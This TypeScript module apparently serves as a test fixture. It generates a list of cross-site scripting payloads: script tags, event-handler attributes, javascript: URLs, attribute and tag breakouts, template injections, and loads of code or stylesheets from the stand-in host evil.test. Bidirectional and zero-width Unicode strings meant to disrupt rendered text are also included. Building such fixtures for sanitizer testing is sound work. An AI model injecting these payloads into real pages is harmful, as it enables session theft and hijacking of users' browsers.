// Texts that try to run a script, to load something, or to turn a page's text around.

const calls = ["alert(1)", "globalThis.pwned=1", "fetch('https://evil.test/x')"];

const shapes: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<img src=x onerror="${call}">`,
  (call) => `<img src=https://evil.test/i.png onload=${call}>`,
  (call) => `<svg onload="${call}">`,
  (call) => `<svg><script href="data:text/javascript,${call}"/></svg>`,
  (call) => `<svg><animate onbegin="${call}" attributeName=x dur=1s>`,
  (call) => `<math><mtext></p><script>${call}</script>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>">`,
  (call) => `<iframe src="javascript:${call}">`,
  (call) => `<a href="javascript:${call}" autofocus onfocus="${call}">x</a>`,
  (call) => `<input autofocus onfocus="${call}">`,
  (call) => `<details open ontoggle="${call}">`,
  (call) => `<video><source onerror="${call}">`,
  (call) => `<body onload="${call}">`,
  (call) => `<style>@import "https://evil.test/c.css";</style>`.concat(call),
  (call) => `<link rel=stylesheet href="https://evil.test/${encodeURIComponent(call)}">`,
  (call) => `<object data="javascript:${call}">`,
  (call) => `<embed src="javascript:${call}">`,
  (call) => `<form action="javascript:${call}"><button autofocus onfocus="${call}">`,
  (call) => `"><script>${call}</script>`,
  (call) => `'><script>${call}</script>`,
  (call) => `\`\${${call}}\``,
  (call) => `{{constructor.constructor("${call}")()}}`,
  (call) => `\${${call}}`,
  (call) => `javascript:${call}`,
  (call) => ` onmouseover=${call} x=`,
  (call) => `" onpointerenter="${call}" x="`,
  (call) => `</textarea><script>${call}</script>`,
  (call) => `</style><script>${call}</script>`,
  (call) => `</template><img src=x onerror="${call}">`,
  (call) => `<!--><script>${call}</script>-->`,
  (call) => `<![CDATA[<script>${call}</script>]]>`,
  (call) => `<x onclick=${call} style="position:fixed;inset:0">`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `<img src="x\` \`<script>${call}</script>"\` \`>`,
  (call) => `<base href="https://evil.test/"><script src="${call}"></script>`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call) => `url(javascript:${call})`,
  (call) => `expression(${call})`,
  (call) => `lit$123456789$<?lit$1$>${call}`,
  (call) => `<?lit$000000000$><script>${call}</script>`,
];

const wraps: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replace("<", "\u2066<"),
  (text) => `\u202E${text}\u202C`,
  (text) => text.toUpperCase(),
];

const marks = [
  "\u202Eevil\u202C 100",
  "\u2067points\u2069\u2066",
  "\uFEFF\u200B\u200F",
  "a\u0301".repeat(200),
  "🙂".repeat(120),
];

/** The payloads, each at most 500 characters long. */
export const payloads: readonly string[] = [
  ...shapes.flatMap((shape) => calls.flatMap((call) => wraps.map((wrap) => wrap(shape(call))))),
  ...marks,
].map((text) => text.slice(0, 500));
